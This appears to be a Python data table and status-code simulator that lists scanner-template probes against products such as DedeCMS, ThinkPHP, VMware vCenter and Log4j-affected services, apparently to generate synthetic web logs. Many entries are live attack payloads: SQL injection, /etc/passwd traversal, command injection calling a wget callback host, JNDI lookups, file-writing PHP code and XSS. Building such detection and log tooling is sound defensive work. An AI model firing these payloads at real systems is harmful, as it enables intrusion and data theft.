E('springboot-mappings', 'misconfig', 'Spring Boot Actuator', 'http/misconfiguration/springboot/springboot-mappings.yaml', 'GET', '/mappings')
E('struts-ognl-console', 'misconfig', 'Apache Struts', 'http/misconfiguration/struts-ognl-console.yaml', 'GET', '/struts/webconsole.html?debug=console')
E('symfony-fosjrouting-bundle', 'misconfig', 'Symfony', 'http/misconfiguration/symfony/symfony-fosjrouting-bundle.yaml', 'GET', '/js/routing?callback=fos.Router.setDatafoobarfoo')
E('teamcity-guest-login-enabled', 'misconfig', 'TeamCity', 'http/misconfiguration/teamcity/teamcity-guest-login-enabled.yaml', 'GET', '/guestLogin.html?guest=1')
E('umbraco-miniprofiler-exposure', 'misconfig', 'Umbraco', 'http/misconfiguration/umbraco-miniprofiler-exposure.yaml', 'GET', '/mini-profiler-resources/results')
E('unauthenticated-netdata', 'misconfig', 'Netdata', 'http/misconfiguration/unauthenticated-netdata.yaml', 'GET', '/api/v1/data?chart=system.cpu&format=json&points=125&group=average&gtime=0&options=ms%7Cflip%7Cjsonwrap%7Cnonzero&after=-120&dimensions=iowait')
E('unauthenticated-varnish-cache-purge', 'misconfig', 'Varnish', 'http/misconfiguration/unauthenticated-varnish-cache-purge.yaml', 'PURGE', '')
E('wamp-xdebug-detect', 'misconfig', 'WampServer', 'http/misconfiguration/wamp-xdebug-detect.yaml', 'GET', '/?phpinfo=-1')
E('wordfence-rules-disclosure', 'misconfig', 'Wordfence', 'http/misconfiguration/wordpress/wordfence-rules-disclosure.yaml', 'GET', '/wp-content/wflogs/rules.php')
E('wp-contact-form-7-fpd', 'misconfig', 'Contact Form 7', 'http/misconfiguration/wordpress/wp-contact-form-7-fpd.yaml', 'GET', '/wp-content/plugins/contact-form-7/includes/functions.php')
E('zhiyuan-oa-unauthorized', 'misconfig', 'Seeyon OA', 'http/misconfiguration/zhiyuan-oa-unauthorized.yaml', 'GET', '/seeyon/personalBind.do.jpg/..;/ajax.do?method=ajaxAction&managerName=mMOneProfileManager&managerMethod=getOAProfile')
E('glpi-directory-listing', 'misconfig', 'GLPI', 'http/misconfiguration/glpi-directory-listing.yaml', 'GET', '/glpi/files/')
E('dedecms-membergroup-sqli', 'vuln-sqli', 'DedeCMS', 'http/vulnerabilities/dedecms/dedecms-membergroup-sqli.yaml', 'GET', "/member/ajax_membergroup.php?action=post&membergroup=@`'`/*!50000Union+*/+/*!50000select+*/+md5({{num}})+--+@`'`")
E('dotnetcms-sqli', 'vuln-sqli', 'DotNetCMS', 'http/vulnerabilities/other/dotnetcms-sqli.yaml', 'GET', "/user/City_ajax.aspx?CityId=33'union%20select%20sys.fn_sqlvarbasetostr(HashBytes('MD5','{{randstr}}')),2--")
E('duomicms-sql-injection', 'vuln-sqli', 'DuomiCMS', 'http/vulnerabilities/other/duomicms-sql-injection.yaml', 'GET', '/duomiphp/ajax.php?action=addfav&id=1&uid=1%20and%20extractvalue(1,concat_ws(1,1,md5({{num}})))')
E('etouch-v2-sqli', 'vuln-sqli', 'ECTouch', 'http/vulnerabilities/other/etouch-v2-sqli.yaml', 'GET', "/upload/mobile/index.php?c=category&a=asynclist&price_max=1.0%20AND%20(SELECT%201%20FROM(SELECT%20COUNT(*),CONCAT(0x7e,md5({{num}}),0x7e,FLOOR(RAND(0)*2))x%20FROM%20INFORMATION_SCHEMA.CHARACTER_SETS%20GROUP%20BY%20x)a)''")
E('joomla-department-sqli', 'vuln-sqli', 'Joomla', 'http/vulnerabilities/joomla/joomla-department-sqli.yaml', 'GET', '/index.php?option=com_departments&id=-1%20UNION%20SELECT%201,md5({{num}}),3,4,5,6,7,8--')
E('phpok-sqli', 'vuln-sqli', 'PHPOK', 'http/vulnerabilities/other/phpok-sqli.yaml', 'GET', '/api.php?c=project&f=index&token=1234&id=news&sort=1 and extractvalue(1,concat(0x7e,md5({{num}}))) --+')
E('thinkphp-509-information-disclosure', 'vuln-sqli', 'ThinkPHP', 'http/vulnerabilities/thinkphp/thinkphp-509-information-disclosure.yaml', 'GET', '/index.php?ids[0,updatexml(0,concat(0xa,user()),0)]=1')
E('weaver-ecology-hrmcareer-sqli', 'vuln-sqli', 'Weaver e-cology', 'http/vulnerabilities/weaver/weaver-ecology-hrmcareer-sqli.yaml', 'GET', "/pweb/careerapply/HrmCareerApplyPerView.jsp?id=1%20union%20select%201,2,sys.fn_sqlvarbasetostr(HashBytes('MD5','{{num}}')),4,5,6,7")
E('yonyou-ksoa-dept-sqli', 'vuln-sqli', 'Yonyou KSOA', 'http/vulnerabilities/yonyou/yonyou-ksoa-dept-sqli.yaml', 'GET', "/common/dept.jsp?deptid=1'+UNION+ALL+SELECT+60%2Csys.fn_sqlvarbasetostr(HASHBYTES('MD5'%2C'{{num}}'))--+")
E('arcade-php-sqli', 'vuln-sqli', 'vBulletin Arcade', 'http/vulnerabilities/vbulletin/arcade-php-sqli.yaml', 'GET', "/arcade.php?act=Arcade&do=stats&comment=a&s_id=1'")
E('realor-gwt-system-sqli', 'vuln-sqli', 'Realor GWT', 'http/vulnerabilities/realor/realor-gwt-system-sqli.yaml', 'GET', "/AgentBoard.XGI?user='||'1&cmd=UserLogin")
E('cmseasy-crossall-sqli', 'vuln-sqli', 'CmsEasy', 'http/vulnerabilities/other/cmseasy-crossall-act-sqli.yaml', 'GET', '/?case=crossall&act=execsql&sql=WY8gzSfZwW9R5YvyK')
E('74cms-sqli', 'vuln-sqli', '74cms', 'http/vulnerabilities/other/74cms-sqli.yaml', 'GET', '/index.php?m=&c=AjaxPersonal&a=company_focus&company_id[0]=match&company_id[1][0]=test") and extractvalue(1,concat(0x7e,md5({{num}}))) -- a')
E('alibaba-anyproxy-lfi', 'vuln-lfi', 'AnyProxy', 'http/vulnerabilities/other/alibaba-anyproxy-lfi.yaml', 'GET', '/fetchBody?id=1/../../../../../../../../etc/passwd')
E('beward-ipcamera-disclosure', 'vuln-lfi', 'Beward IP camera', 'http/vulnerabilities/other/beward-ipcamera-disclosure.yaml', 'GET', '/cgi-bin/operator/fileread?READ.filePath=/etc/passwd')
E('crawlab-lfi', 'vuln-lfi', 'Crawlab', 'http/vulnerabilities/other/crawlab-lfi.yaml', 'GET', '/api/file?path=../../etc/passwd')
E('elFinder-path-traversal', 'vuln-lfi', 'elFinder', 'http/vulnerabilities/other/elFinder-path-traversal.yaml', 'GET', '/php/connector.minimal.php?cmd=file&target=l1_Li8vLi4vLy4uLy8uLi8vLi4vLy4uLy8uLi9ldGMvcGFzc3dk&download=1')
E('groupoffice-lfi', 'vuln-lfi', 'Group-Office', 'http/vulnerabilities/other/groupoffice-lfi.yaml', 'GET', '/compress.php?file=../../../../../../../etc/passwd')
E('huawei-hg659-lfi', 'vuln-lfi', 'Huawei HG659', 'http/vulnerabilities/other/huawei-hg659-lfi.yaml', 'GET', '/lib///....//....//....//....//....//....//....//....//etc//passwd')
E('kyocera-m2035dn-lfi', 'vuln-lfi', 'Kyocera M2035dn', 'http/vulnerabilities/other/kyocera-m2035dn-lfi.yaml', 'GET', '/js/../../../../../../../../etc/passwd%00.jpg')
E('metinfo-lfi', 'vuln-lfi', 'MetInfo', 'http/vulnerabilities/other/metinfo-lfi.yaml', 'GET', '/include/thumb.php?dir=http/.....///.....///config/config_db.php')
E('nuxt-js-lfi', 'vuln-lfi', 'Nuxt', 'http/vulnerabilities/nuxt/nuxt-js-lfi.yaml', 'GET', '/_nuxt/@fs/etc/passwd')
E('voyager-lfi', 'vuln-lfi', 'Laravel Voyager', 'http/vulnerabilities/other/voyager-lfi.yaml', 'GET', '/admin/voyager-assets?path=.....%2F%2F%2F.....%2F%2F%2F.....%2F%2F%2F.....%2F%2F%2F.....%2F%2F%2F.....%2F%2F%2F.....%2F%2F%2F.....%2F%2F%2F.....%2F%2F%2Fetc/passwd')
E('ruijie-networks-lfi', 'vuln-lfi', 'Ruijie', 'http/vulnerabilities/ruijie/ruijie-networks-lfi.yaml', 'GET', '/download.do?file=../../../../config.text')
E('nginx-merge-slashes-path-traversal', 'vuln-lfi', 'nginx', 'http/vulnerabilities/other/nginx-merge-slashes-path-traversal.yaml', 'GET', '///////../../../etc/passwd')
E('vmware-vcenter-lfi-linux', 'vuln-lfi', 'VMware vCenter', 'http/vulnerabilities/vmware/vmware-vcenter-lfi-linux.yaml', 'GET', '/eam/vib?id=/etc/passwd')
E('dedecms-rce', 'vuln-rce', 'DedeCMS', 'http/vulnerabilities/dedecms/dedecms-rce.yaml', 'GET', '/plus/flink.php?dopost=save&c=cat%20/etc/passwd')
E('hiboss-rce', 'vuln-rce', 'HiBOSS', 'http/vulnerabilities/other/hiboss-rce.yaml', 'GET', '/manager/radius/server_ping.php?ip=127.0.0.1|cat%20/etc/passwd>../../{{randstr}}.txt&id=1')
E('netgear-dgn-rce', 'vuln-rce', 'Netgear DGN', 'http/vulnerabilities/netgear/netgear-dgn-rce.yaml', 'GET', '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=echo%20{{randstr}}&curpath=/&currentsetting.htm=1')
E('netmizer-cmd-rce', 'vuln-rce', 'NetMizer', 'http/vulnerabilities/netmizer/netmizer-cmd-rce.yaml', 'GET', '/data/manage/cmd.php?cmd=id')
E('nginxwebui-runcmd-rce', 'vuln-rce', 'nginxWebUI', 'http/vulnerabilities/other/nginxwebui-runcmd-rce.yaml', 'GET', '/AdminPage/conf/runCmd?cmd=id')
E('sar2html-rce', 'vuln-rce', 'sar2html', 'http/vulnerabilities/other/sar2html-rce.yaml', 'GET', '/index.php?plot=;wget%20http://{{interactsh-url}}')
E('thinkphp-2-rce', 'vuln-rce', 'ThinkPHP', 'http/vulnerabilities/thinkphp/thinkphp-2-rce.yaml', 'GET', '/index.php?s=/index/index/name/$%7B@phpinfo()%7D')
E('tongda-getdata-rce', 'vuln-rce', 'Tongda OA', 'http/vulnerabilities/tongda/tongda-getdata-rce.yaml', 'GET', '/general/appbuilder/web/portal/gateway/getdata?activeTab=%E5%27%19,1%3D%3Eeval(base64_decode(%22{{base64(payload)}}%22)))%3B/*&id=19&module=Carouselimage')
E('landray-oa-datajson-rce', 'vuln-rce', 'Landray OA', 'http/vulnerabilities/other/landray-oa-datajson-rce.yaml', 'GET', '/data/sys-common/datajson.js?s_bean=sysFormulaSimulateByJS&script=%66%75%6e%63%74%69%6f%6e%20%74%65%73%74%28%29%7b%20%72%65%74%75%72%6e%20%6a%61%76%61%2e%6c%61%6e%67%2e%52%75%6e%74%69%6d%65%7d%3b%72%3d%74%65%73%74%28%29%3b%72%2e%67%65%74%52%75%6e%74%69%6d%65%28%29%2e%65%78%65%63%28%22%70%69%6e%67%20%2d%63%20%34%20{{interactsh-url}}%22%29&type=1')
E('code42-log4j-rce', 'vuln-rce', 'Code42', 'http/vulnerabilities/code42/code42-log4j-rce.yaml', 'GET', '/c42api/v3/LoginConfiguration?username=${jndi:ldap://${:-{{rand1}}}${:-{{rand2}}}.${hostName}.username.{{interactsh-url}}/test}&url=https://localhost')
E('okta-log4j-rce', 'vuln-rce', 'Okta', 'http/vulnerabilities/other/okta-log4j-rce.yaml', 'GET', '/login/SAML?=${jndi:ldap://${:-{{rand1}}}${:-{{rand2}}}.${hostName}.username.{{interactsh-url}}/{{rand_base(5)}}}')
E('elasticsearch5-log4j-rce', 'vuln-rce', 'Elasticsearch', 'http/vulnerabilities/other/elasticsearch5-log4j-rce.yaml', 'GET', '/_search?a=$%7Bjndi%3Aldap%3A%2F%2F$%7B%3A-{{rand1}}%7D$%7B%3A-{{rand2}}%7D.$%7BhostName%7D.search.{{interactsh-url}}%7D')
E('thinkcmf-rce', 'vuln-rce', 'ThinkCMF', 'http/vulnerabilities/thinkcmf/thinkcmf-rce.yaml', 'GET', '/index.php?a=fetch&content={{url_encode(\'<?php file_put_contents(\\"{{randstr}}.php\\",\\"<?php echo md5(\\"{{string}}\\");unlink(__FILE__);\\");\')}}')
E('avaya-aura-xss', 'vuln-xss', 'Avaya Aura', 'http/vulnerabilities/avaya/avaya-aura-xss.yaml', 'GET', '/admin/public/login.jsp?error=%3Cscript%3Ealert(document.domain)%3C/script%3e')
E('copyparty-xss', 'vuln-xss', 'copyparty', 'http/vulnerabilities/copyparty-xss.yaml', 'GET', '/?hc=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E')
E('httpbin-xss', 'vuln-xss', 'httpbin', 'http/vulnerabilities/httpbin/httpbin-xss.yaml', 'GET', '/base64/PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+')
E('nginx-module-vts-xss', 'vuln-xss', 'nginx VTS module', 'http/vulnerabilities/other/nginx-module-vts-xss.yaml', 'GET', '/_404_%3E%3Cscript%3Ealert(1337)%3C%2Fscript%3E')
E('oracle-siebel-xss', 'vuln-xss', 'Oracle Siebel', 'http/vulnerabilities/oracle/oracle-siebel-xss.yaml', 'GET', '/loyalty_enu/start.swe/%3E%22%3E%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E')
E('parallels-hsphere-xss', 'vuln-xss', 'Parallels H-Sphere', 'http/vulnerabilities/other/parallels-hsphere-xss.yaml', 'GET', '/webshell4/login.php?err=%22%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E')
E('tikiwiki-reflected-xss', 'vuln-xss', 'Tiki Wiki', 'http/vulnerabilities/other/tikiwiki-reflected-xss.yaml', 'GET', '/tiki-5.2/tiki-edit_wiki_section.php?type=%22%3E%3Cscript%3Ealert(31337)%3C/script%3E')
E('kafdrop-xss', 'vuln-xss', 'Kafdrop', 'http/vulnerabilities/other/kafdrop-xss.yaml', 'GET', "/topic/e'%22%3E%3Cimg%20src=x%20onerror=alert(2)%3E")
E('discourse-xss', 'vuln-xss', 'Discourse', 'http/vulnerabilities/other/discourse-xss.yaml', 'GET', '/email/unsubscribed?email=test@gmail.com%27\\%22%3E%3Csvg/onload=alert(/xss/)%3E')
E('vmware-cloud-xss', 'vuln-xss', 'VMware Cloud Director', 'http/vulnerabilities/vmware/vmware-cloud-xss.yaml', 'GET', '/login/?redirectTo=/tenant/e&service=</script><script>alert(document.domain)</script>')
E('bagisto-csti', 'vuln-xss', 'Bagisto', 'http/vulnerabilities/other/bagisto-csti.yaml', 'GET', "/bagisto-common/search?query={{2288*'9876'}}")
E('amazon-ec2-ssrf', 'vuln-ssrf', 'AWS EC2', 'http/vulnerabilities/amazon/amazon-ec2-ssrf.yaml', 'GET', '/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance')
E('avtech-dvr-ssrf', 'vuln-ssrf', 'AVTECH DVR', 'http/vulnerabilities/avtech/avtech-dvr-ssrf.yaml', 'GET', '/cgi-bin/nobody/Search.cgi?action=scan')
E('splash-render-ssrf', 'vuln-ssrf', 'Scrapinghub Splash', 'http/vulnerabilities/splash/splash-render-ssrf.yaml', 'GET', '/render.html?url=https://oast.live')
E('umbraco-base-ssrf', 'vuln-ssrf', 'Umbraco', 'http/vulnerabilities/other/umbraco-base-ssrf.yaml', 'GET', '/umbraco/BackOffice/Api/Help/GetContextHelpForPage?section=content&tree=undefined&baseUrl=http://{{interactsh-url}}')
E('ueditor-ssrf', 'vuln-ssrf', 'UEditor', 'http/vulnerabilities/ueditor/ueditor-ssrf.yaml', 'GET', '/ueditor/php/controller.php?action=catchimage&source[]=http://127.0.0.1:{{rand_text_numeric(6)}}/?1.png')
E('vmware-vcenter-ssrf', 'vuln-ssrf', 'VMware vCenter', 'http/vulnerabilities/vmware/vmware-vcenter-ssrf.yaml', 'GET', '/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=https://{{interactsh-url}}')
E('zimbra-preauth-ssrf', 'vuln-ssrf', 'Zimbra', 'http/vulnerabilities/other/zimbra-preauth-ssrf.yaml', 'GET', '/service/error/sfdc_preauth.jsp?session=s&userid=1&server=http://{{interactsh-url}}%23.salesforce.com/')
E('WSO2-2019-0598', 'vuln-ssrf', 'WSO2', 'http/vulnerabilities/other/WSO2-2019-0598.yaml', 'GET', '/shindig/gadgets/proxy?container=default&url=http://oast.pro')
E('oob-param-based-interaction', 'vuln-ssrf', 'generic parameters', 'http/vulnerabilities/generic/oob-param-based-interaction.yaml', 'GET', '/?u=http://{{interactsh-url}}/&href=http://{{interactsh-url}}/&action=http://{{interactsh-url}}/&host={{interactsh-url}}&http_host={{interactsh-url}}&email=root@{{interactsh-url}}&url=http://{{interactsh-url}}/&load=http://{{interactsh-url}}/&preview=http://{{interactsh-url}}/&target=http://{{interactsh-url}}/&proxy=http://{{interactsh-url}}/&from=http://{{interactsh-url}}/&src=http://{{interactsh-url}}/&ref=http://{{interactsh-url}}/&referrer=http://{{interactsh-url}}/')
E('avtech-auth-bypass', 'vuln-other', 'AVTECH DVR', 'http/vulnerabilities/avtech/avtech-auth-bypass.yaml', 'GET', '/cgi-bin/user/Config.cgi?.cab&action=get&category=Account.*')
E('netgear-wnr614-auth-bypass', 'vuln-other', 'Netgear WNR614', 'http/vulnerabilities/netgear/netgear-wnr614-auth-bypass.yaml', 'GET', '/RST_status.htm%00currentsetting.htm')
E('httpbin-open-redirect', 'vuln-other', 'httpbin', 'http/vulnerabilities/httpbin/httpbin-open-redirect.yaml', 'GET', '/redirect-to?url=https%3A%2F%2Finteract.sh')
E('jira-https-mode-open-redirect', 'vuln-other', 'Jira', 'http/vulnerabilities/jira/jira-https-mode-open-redirect.yaml', 'GET', '/ThisCanBeAnything?os_destination=%2F%2Foast.pro')
E('icewarp-open-redirect', 'vuln-other', 'IceWarp', 'http/vulnerabilities/other/icewarp-open-redirect.yaml', 'GET', '///interact.sh/%2F..')
E('nextjs-redirect', 'vuln-other', 'Next.js', 'http/vulnerabilities/other/nextjs-redirect.yaml', 'GET', '/_next/image?url=/\\/\\interact.sh/&q=100&w=128&h=128')
E('pkp-lib-open-redirect', 'vuln-other', 'PKP OJS', 'http/vulnerabilities/pkp-lib-open-redirect.yaml', 'GET', '/index.php/index/user/setLocale/NEW_LOCALE?source=@oast.me')
E('viewlinc-crlf-injection', 'vuln-other', 'Vaisala viewLinc', 'http/vulnerabilities/other/viewlinc-crlf-injection.yaml', 'GET', '/%0ASet-Cookie:crlfinjection=crlfinjection')
E('crlf-injection-generic', 'vuln-other', 'generic path', 'http/vulnerabilities/generic/crlf-injection-generic.yaml', 'GET', '/%0D%0ASet-Cookie:crlfinjection=crlfinjection')
E('twig-php-ssti', 'vuln-other', 'Twig', 'http/vulnerabilities/other/twig-php-ssti.yaml', 'GET', '/search?search_key=%7B%7B1337*1338%7D%7D')
E('top-xss-params', 'vuln-xss', 'generic parameters', 'http/vulnerabilities/generic/top-xss-params.yaml', 'GET', '/?q=%27%3E%22%3Csvg%2Fonload=confirm%28%27q%27%29%3E&s=%27%3E%22%3Csvg%2Fonload=confirm%28%27s%27%29%3E&search=%27%3E%22%3Csvg%2Fonload=confirm%28%27search%27%29%3E&id=%27%3E%22%3Csvg%2Fonload=confirm%28%27id%27%29%3E&action=%27%3E%22%3Csvg%2Fonload=confirm%28%27action%27%29%3E&keyword=%27%3E%22%3Csvg%2Fonload=confirm%28%27keyword%27%29%3E&query=%27%3E%22%3Csvg%2Fonload=confirm%28%27query%27%29%3E&page=%27%3E%22%3Csvg%2Fonload=confirm%28%27page%27%29%3E&keywords=%27%3E%22%3Csvg%2Fonload=confirm%28%27keywords%27%29%3E&url=%27%3E%22%3Csvg%2Fonload=confirm%28%27url%27%29%3E&view=%27%3E%22%3Csvg%2Fonload=confirm%28%27view%27%29%3E&cat=%27%3E%22%3Csvg%2Fonload=confirm%28%27cat%27%29%3E&name=%27%3E%22%3Csvg%2Fonload=confirm%28%27name%27%29%3E&key=%27%3E%22%3Csvg%2Fonload=confirm%28%27key%27%29%3E&p=%27%3E%22%3Csvg%2Fonload=confirm%28%27p%27%29%3E')
E('lutron-default-login', 'default-login', 'Lutron', 'http/default-logins/lutron/lutron-default-login.yaml', 'GET', '/login?login=lutron&password=lutron')
E('netman-default-login', 'default-login', 'Riello NetMan', 'http/default-logins/riello/netman-default-login.yaml', 'GET', '/cgi-bin/login.cgi?username=admin&password=admin')
E('timekeeper-default-login', 'default-login', 'TimeKeeper', 'http/default-logins/timekeeper/timekeeper-default-login.yaml', 'GET', '/login?arg1={{url_encode(base64(username))}}&arg2={{url_encode(base64(password))}}')
E('tplink-wR940n-default-login', 'default-login', 'TP-Link WR940N', 'http/default-logins/tplink/tplink-wR940n-default-login.yaml', 'GET', '/userRpm/LoginRpm.htm?Save=Save')
E('atlona-default-login', 'default-login', 'Atlona', 'http/default-logins/atlona/atlona-default-login.yaml', 'POST', "/cgi-bin/login.cgi?ssid={{base64('admin:Atlona')}}")
E('tomcat-default-login', 'default-login', 'Apache Tomcat Manager', 'http/default-logins/apache/tomcat-default-login.yaml', 'GET', '/manager/html')
E('activemq-default-login', 'default-login', 'Apache ActiveMQ', 'http/default-logins/activemq/activemq-default-login.yaml', 'GET', '/admin/')
E('apisix-default-login', 'default-login', 'Apache APISIX', 'http/default-logins/apache/apisix-default-login.yaml', 'POST', '/apisix/admin/user/login')
E('dolphinscheduler-default-login', 'default-login', 'Apache DolphinScheduler', 'http/default-logins/apache/dolphinscheduler-default-login.yaml', 'POST', '/dolphinscheduler/login')
E('xxljob-default-login', 'default-login', 'XXL-JOB', 'http/default-logins/xxljob/xxljob-default-login.yaml', 'POST', '/xxl-job-admin/login')
E('nacos-default-login', 'default-login', 'Nacos', 'http/default-logins/nacos/nacos-default-login.yaml', 'POST', '/v1/auth/users/login')
E('grafana-default-login', 'default-login', 'Grafana', 'http/default-logins/grafana/grafana-default-login.yaml', 'POST', '/login')
E('nexus-default-login', 'default-login', 'Sonatype Nexus', 'http/default-logins/nexus/nexus-default-login.yaml', 'POST', '/service/rapture/session')
E('rabbitmq-default-login', 'default-login', 'RabbitMQ', 'http/default-logins/rabbitmq/rabbitmq-default-login.yaml', 'GET', '/api/whoami')
E('webmin-default-login', 'default-login', 'Webmin', 'http/default-logins/webmin-default-login.yaml', 'POST', '/session_login.cgi')
E('wso2-default-login', 'default-login', 'WSO2', 'http/default-logins/wso2/wso2-default-login.yaml', 'POST', '/carbon/admin/login_action.jsp')
E('minio-default-login', 'default-login', 'MinIO', 'http/default-logins/minio/minio-default-login.yaml', 'POST', '/minio/webrpc')
E('dell-idrac9-default-login', 'default-login', 'Dell iDRAC', 'http/default-logins/dell/dell-idrac9-default-login.yaml', 'POST', '/sysmgmt/2015/bmc/session')
E('panos-default-login', 'default-login', 'Palo Alto PAN-OS', 'http/default-logins/paloalto/panos-default-login.yaml', 'POST', '/php/login.php')
E('openwebui-default-login', 'default-login', 'Open WebUI', 'http/default-logins/openwebui/openwebui-default-login.yaml', 'POST', '/api/v1/auths/signin')
E('nodered-default-login', 'default-login', 'Node-RED', 'http/default-logins/node-red/nodered-default-login.yaml', 'POST', '/auth/token')
E('guacamole-default-login', 'default-login', 'Apache Guacamole', 'http/default-logins/guacamole/guacamole-default-login.yaml', 'POST', '/api/tokens')
E('jenkins-api-panel', 'panel', 'Jenkins', 'http/exposed-panels/jenkins-api-panel.yaml', 'GET', '/api/xml')
E('couchdb-exposure', 'panel', 'Apache CouchDB', 'http/exposed-panels/couchdb-exposure.yaml', 'GET', '/_all_dbs')
E('hadoop-exposure', 'panel', 'Apache Hadoop', 'http/exposed-panels/hadoop-exposure.yaml', 'GET', '/dfshealth.html')
E('microsoft-exchange-panel', 'panel', 'Microsoft Exchange', 'http/exposed-panels/microsoft-exchange-panel.yaml', 'GET', '/owa/auth/logon.aspx?replaceCurrent=1&url=/ecp')
E('cisco-cm-panel', 'panel', 'Cisco Unified CM', 'http/exposed-panels/cisco-cm-panel.yaml', 'GET', '/ccmadmin/showHome.do')
E('oracle-enterprise-manager-login', 'panel', 'Oracle Enterprise Manager', 'http/exposed-panels/oracle-enterprise-manager-login.yaml', 'GET', '/em/console/logon/logon')
E('pagespeed-global-admin', 'panel', 'mod_pagespeed', 'http/exposed-panels/pagespeed-global-admin.yaml', 'GET', '/pagespeed-global-admin/')
E('sapfiori-panel', 'panel', 'SAP Fiori', 'http/exposed-panels/sapfiori-panel.yaml', 'GET', '/fiori')
E('webshell4-login-panel', 'panel', 'Parallels H-Sphere', 'http/exposed-panels/webshell4-login-panel.yaml', 'GET', '/webshell4/login.php')
E('strapi-panel', 'panel', 'Strapi', 'http/exposed-panels/strapi-panel.yaml', 'GET', '/admin/auth/login')
E('telerik-fileupload-detect', 'panel', 'Telerik UI', 'http/technologies/telerik/telerik-fileupload-detect.yaml', 'GET', '/Telerik.Web.UI.WebResource.axd?type=rau')
E('kubelet-scan', 'panel', 'Kubelet', 'http/technologies/kubernetes/kubelet/kubelet-runningpods.yaml', 'GET', '/runningpods/')
E('kube-api-pods', 'panel', 'Kubernetes', 'http/technologies/kubernetes/kube-api/kube-api-pods.yaml', 'GET', '/api/v1/namespaces/default/pods')
E('s3-detect', 'panel', 'Amazon S3', 'http/technologies/s3-detect.yaml', 'GET', '/%c0')
E('sitecore-version', 'panel', 'Sitecore', 'http/technologies/sitecore-version.yaml', 'GET', '/sitecore/shell/sitecore.version.xml')
E('bigip-apm-detect', 'panel', 'F5 BIG-IP APM', 'http/technologies/bigip-apm-detect.yaml', 'GET', '/pre/config.php?version=2.0')
E('chromecast-detect', 'panel', 'Google Chromecast', 'http/technologies/google/chromecast-detect.yaml', 'GET', '/setup/eureka_info')
E('winrm-detect', 'panel', 'Windows WinRM', 'http/technologies/winrm-detect.yaml', 'POST', '/wsman')
E('dell-idrac8-detect', 'panel', 'Dell iDRAC', 'http/technologies/dell/dell-idrac8-detect.yaml', 'GET', '/data?get=prodServerGen')
E('puppetserver-detect', 'panel', 'Puppet Server', 'http/technologies/puppetserver-detect.yaml', 'GET', '/puppet-ca/v1/certificate_request/{{randstr}}')
E('linux-lfi-fuzzing', 'fuzzing', 'generic', 'http/fuzzing/linux-lfi-fuzzing.yaml', 'GET', '/?q=../../../etc/passwd&s=../../../etc/passwd&search=../../../etc/passwd&id=&action=../../../etc/passwd&keyword=../../../etc/passwd&query=../../../etc/passwd&page=../../../etc/passwd&keywords=../../../etc/passwd&url=../../../etc/passwd&view=../../../etc/passwd&cat=../../../etc/passwd&name=../../../etc/passwd&key=../../../etc/passwd&p=../../../etc/passwd')
E('windows-lfi-fuzzing', 'fuzzing', 'generic', 'http/fuzzing/windows-lfi-fuzzing.yaml', 'GET', '/.%252e/.%252e/.%252e/.%252e/.%252e/.%252e/windows/win.ini')
E('mdb-database-file', 'fuzzing', 'generic', 'http/fuzzing/mdb-database-file.yaml', 'GET', '/Databases/asp99cms.mdb')
E('prestashop-module-fuzz', 'fuzzing', 'PrestaShop', 'http/fuzzing/prestashop-module-fuzz.yaml', 'GET', '/modules/1attributewizardpro/config.xml')
E('wordpress-plugins-detect', 'fuzzing', 'WordPress plugins', 'http/fuzzing/wordpress-plugins-detect.yaml', 'GET', '/wp-content/plugins/0-delay-late-caching-for-feeds/readme.txt')
E('ssrf-via-proxy', 'fuzzing', 'generic', 'http/fuzzing/ssrf-via-proxy.yaml', 'GET', 'http://127.0.0.1:22')
E('sqli-error-based', 'fuzzing', 'generic', 'dast/vulnerabilities/sqli/sqli-error-based.yaml', 'GET', '?')
E('cmdi-blind-oast-polyglot', 'fuzzing', 'generic', 'dast/vulnerabilities/cmdi/blind-oast-polyglots.yaml', 'GET', '?')
E('python-code-injection', 'fuzzing', 'generic', 'dast/vulnerabilities/cmdi/python-code-injection.yaml', 'GET', '?')
E('generic-xxe', 'fuzzing', 'generic', 'dast/vulnerabilities/xxe/generic-xxe.yaml', 'GET', '?')
E('xinclude-injection', 'fuzzing', 'generic', 'dast/vulnerabilities/injection/xinclude-injection.yaml', 'GET', '?')
E('open-redirect-bypass', 'fuzzing', 'generic', 'dast/vulnerabilities/redirect/open-redirect-bypass.yaml', 'GET', '?')
E('generic-rfi', 'fuzzing', 'generic', 'dast/vulnerabilities/rfi/generic-rfi.yaml', 'GET', '?')
E('jinja2-oob', 'fuzzing', 'generic', 'dast/vulnerabilities/ssti/oob/jinja2-oob.yaml', 'GET', '?')

# ----------------------------------------------------------------- status codes
# The server is nginx in front of a PHP site that runs none of the probed products: most
# probes get nginx's or the application's 404; dot-files hit a "deny all" rule (403);
# routes the site does have (/, /index.php, /login, /search, /admin) answer 200/302 and
# may throw a 500 on injected SQL; nginx itself answers 400 to a NUL byte or a '..' that
# climbs above the root in the path, and 405 to methods its static handler refuses.
SITE_ROUTES = {'/', '/index.php', '/login', '/search', '/admin', '/account/login', '/product.php', '/greet'}

def climbs_above_root(path):
    depth = 0
    for seg in urllib.parse.unquote(path).split('/'):
        if seg == '..':
            depth -= 1
            if depth < 0:
                return True
        elif seg not in ('', '.'):
            depth += 1
    return False

def status_for(e, target, r):
    m = e['method']
    if m in ('PUT', 'DEBUG', 'PURGE'):
        return 405
    if target.startswith(('http://', 'https://')):          # absolute-form: served by the default server
        rest = target.split('//', 1)[1]
        path = '/' + rest.split('/', 1)[1] if '/' in rest else '/'
        return 200 if path.split('?')[0] == '/' else 404
    path = target.split('?', 1)[0]
    if '%00' in path or climbs_above_root(path):
        return 400
    if m == 'POST':
        x = r.random()
        return 404 if x < 0.55 else 405 if x < 0.80 else 403 if x < 0.90 else 200
    segs = [s for s in path.split('/') if s]
    if any(s.startswith('.') and s not in ('.well-known', '..', '.') for s in segs):
        return 403 if r.random() < 0.7 else 404
    if path in SITE_ROUTES:
        if path == '/admin':
            return 302
        if '?' in target and e['cat'] in ('vuln-sqli', 'fuzzing') and r.random() < 0.4:
            return 500
        return 200
    x = r.random()
    if x < 0.70:
        return 404
    if x < 0.78:
        return 403
    if x < 0.86:
        return 200          # the PHP front controller or a catch-all route answers
    if x < 0.90:
        return 301          # a directory-style route redirected to its canonical form
